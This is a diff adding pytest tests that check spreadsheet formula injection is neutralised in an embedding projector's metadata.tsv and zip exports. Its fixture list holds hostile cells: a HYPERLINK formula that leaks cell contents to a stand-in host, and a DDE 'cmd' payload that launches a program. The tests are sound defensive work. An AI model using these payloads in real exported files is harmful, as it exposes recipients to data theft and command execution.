@@ -94,3 +94,53 @@ def test_bad_input_is_refused_with_a_clear_message(call, message):
     with pytest.raises(ValueError) as info:
         call()
     assert message in str(info.value)
+
+
+# --- spreadsheet formulas: metadata.tsv opens in Excel / LibreOffice as readily as in the projector ----------
+HOSTILE_CELLS = [
+    (
+        '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
+        '\'=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
+    ),
+    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
+    ("+1+2", "'+1+2"),
+    ("-2+3", "'-2+3"),
+    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
+    ("\t=1+1", "'=1+1"),  # the tab becomes nothing (stripped), and the formula under it is neutralised
+    ("\r@x", "'@x"),
+    ("  +1 behind spaces", "'+1 behind spaces"),  # spaces are stripped, so the cell would start with +
+    ("a = b is fine", "a = b is fine"),
+    ("x-1 and y+2 inside", "x-1 and y+2 inside"),
+    ("'=already quoted", "'=already quoted"),
+]
+
+
+@pytest.mark.parametrize(("text", "cell"), HOSTILE_CELLS)
+def test_metadata_neutralises_formula_cells_and_still_parses(text, cell):
+    texts = [text, "plain"]
+    labels = [text, "=1+1"]  # labels are user text too
+    vectors = np.eye(2, 3, dtype=np.float32)
+    files = projector_files({"mean": vectors}, texts, labels)
+    V, header, body = _projector_parse(files["mean/vectors.tsv"], files["mean/metadata.tsv"])
+    np.testing.assert_array_equal(V, vectors)
+    assert header == ["text", "label"]  # our own header is not a user cell
+    assert body == [[cell, cell], ["plain", "'=1+1"]]
+
+
+def test_metadata_uses_the_csv_exports_rule():
+    """One rule for every export: the metadata cell is exactly what the .csv export writes for a stripped cell."""
+    from core.analysis.comparison import safe_cell
+
+    for text, _ in HOSTILE_CELLS:
+        flat = " ".join(text.split())
+        meta = _lines(metadata_tsv([text], None))[1].split("\t")[0]
+        assert meta == safe_cell(flat)
+        assert meta[:1] not in ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_zip_metadata_has_no_formula_cells():
+    texts = [t for t, _ in HOSTILE_CELLS]
+    with zipfile.ZipFile(io.BytesIO(projector_zip({"cls": np.ones((len(texts), 2))}, texts, texts))) as zf:
+        _, _, body = _projector_parse(zf.read("cls/vectors.tsv"), zf.read("cls/metadata.tsv"))
+    assert len(body) == len(texts)
+    assert not {c[:1] for row in body for c in row} & {"=", "+", "-", "@", "\t", "\r"}
